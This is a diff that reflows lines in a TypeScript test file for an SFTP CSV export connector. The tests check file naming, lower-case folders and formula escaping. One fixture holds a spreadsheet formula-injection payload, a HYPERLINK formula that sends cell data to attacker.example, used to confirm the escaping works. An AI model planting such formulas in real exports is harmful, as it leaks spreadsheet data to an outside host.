@@ -1,35 +1,14 @@
 import { mkdirSync } from 'node:fs';
 import { join } from 'node:path';
-import {
-  CsvEncoder,
-  runExport,
-  type ConnectorDefinition,
-  type ExportItem,
-  type SourceRecord,
-} from '@outport/connector-sdk';
+import { CsvEncoder, runExport, type ConnectorDefinition, type ExportItem, type SourceRecord } from '@outport/connector-sdk';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import connector from '../src/index.js';
-import {
-  exportContext,
-  exportItem,
-  manifest,
-  parseCsv,
-  startTestServer,
-  type TestServer,
-} from './helpers.js';
+import { exportContext, exportItem, manifest, parseCsv, startTestServer, type TestServer } from './helpers.js';
 
 /** What the files need so that whoever picks them up gets every row, as it was, safely. */
 
-function segment(
-  id: string,
-  name: string,
-  size: number,
-  from: number,
-): { item: ExportItem; records: SourceRecord[] } {
-  const records = Array.from({ length: size }, (_, i) => ({
-    key: `M${from + i}`,
-    values: { key: `M${from + i}`, email: `m${from + i}@example.com` },
-  }));
+function segment(id: string, name: string, size: number, from: number): { item: ExportItem; records: SourceRecord[] } {
+  const records = Array.from({ length: size }, (_, i) => ({ key: `M${from + i}`, values: { key: `M${from + i}`, email: `m${from + i}@example.com` } }));
   return { item: { kind: 'segment', id, name, segmentType: 'profile', memberCount: size }, records };
 }
 
@@ -44,12 +23,7 @@ describe('files on the SFTP server', () => {
   it('gives segments whose names clean alike their own files, each holding every member', async () => {
     const slash = segment('seg-eu-slash-vip', 'EU/VIP', 839, 0);
     const underscore = segment('seg-eu-underscore-vip', 'EU_VIP', 377, 10_000);
-    const result = await runExport({
-      connector,
-      manifest,
-      context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members' }),
-      items: [slash, underscore],
-    });
+    const result = await runExport({ connector, manifest, context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members' }), items: [slash, underscore] });
     expect(result.items.map((i) => i.accepted)).toEqual([839, 377]);
 
     const files = server.files('/outbox');
@@ -57,35 +31,18 @@ describe('files on the SFTP server', () => {
     expect(files).toContain('EU_VIP_202503140926.csv');
     const suffixed = files.find((f) => /^EU_VIP_[0-9a-f]{8}_202503140926\.csv$/.test(f));
     expect(suffixed).toBeDefined();
-    const keys = (file: string) =>
-      parseCsv(server.read(`outbox/${file}`), ',')
-        .slice(1)
-        .map((row) => row[0]);
+    const keys = (file: string) => parseCsv(server.read(`outbox/${file}`), ',').slice(1).map((row) => row[0]);
     expect(keys('EU_VIP_202503140926.csv')).toEqual(underscore.records.map((r) => r.key));
     expect(keys(suffixed!)).toEqual(slash.records.map((r) => r.key));
 
     // The same names on the next run: nothing depends on what else the export holds.
-    await runExport({
-      connector,
-      manifest,
-      context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members', runId: 'run-2' }),
-      items: [slash],
-    });
+    await runExport({ connector, manifest, context: exportContext(server, { folder: '/outbox' }, { audienceKind: 'members', runId: 'run-2' }), items: [slash] });
     expect(server.files('/outbox')).toEqual(files);
   });
 
   it('writes to the export folder in lower case, as Customer Insights does', async () => {
-    const item: ExportItem = {
-      kind: 'table',
-      id: 't-1',
-      name: 'Orders',
-      keyColumn: 'id',
-      columns: [{ name: 'id', type: 'string' }],
-      rowCount: 1,
-    };
-    const result = await exportItem(exportContext(server, { folder: '/OutBox' }), item, [
-      { key: 'o-1', values: { id: 'o-1' } },
-    ]);
+    const item: ExportItem = { kind: 'table', id: 't-1', name: 'Orders', keyColumn: 'id', columns: [{ name: 'id', type: 'string' }], rowCount: 1 };
+    const result = await exportItem(exportContext(server, { folder: '/OutBox' }), item, [{ key: 'o-1', values: { id: 'o-1' } }]);
     expect(result.items[0]!.accepted).toBe(1);
     expect(server.files('/outbox')).toContain('Orders_202503140926.csv');
   });
@@ -103,10 +60,7 @@ describe('files on the SFTP server', () => {
     rowCount: 4,
   };
   const rows: SourceRecord[] = [
-    {
-      key: 'n-1',
-      values: { id: 'n-1', note: '=HYPERLINK("http://attacker.example/?"&A1,"click")', amount: 1e-7 },
-    },
+    { key: 'n-1', values: { id: 'n-1', note: '=HYPERLINK("http://attacker.example/?"&A1,"click")', amount: 1e-7 } },
     { key: 'n-2', values: { id: 'n-2', note: '@SUM(A1:A9)', amount: 1e21 } },
     { key: 'n-3', values: { id: 'n-3', note: '+33612345678', amount: -2 } },
     { key: 'n-4', values: { id: 'n-4', note: 'plain', amount: 2.5 } },
@@ -193,16 +147,7 @@ describe('files on the SFTP server', () => {
   });
 
   it('escapes text a spreadsheet would run as a formula when the export asks', async () => {
-    await exportItem(
-      exportContext(server, {
-        folder: '/outbox',
-        fileNamePrefix: 'safe_',
-        delimiter: ';',
-        escapeFormulas: true,
-      }),
-      table,
-      rows,
-    );
+    await exportItem(exportContext(server, { folder: '/outbox', fileNamePrefix: 'safe_', delimiter: ';', escapeFormulas: true }), table, rows);
     expect(parseCsv(server.read('outbox/safe_Notes_202503140926.csv'), ';').slice(1)).toEqual([
       ['n-1', `'=HYPERLINK("http://attacker.example/?"&A1,"click")`, '0.0000001'],
       ['n-2', "'@SUM(A1:A9)", '1000000000000000000000'],
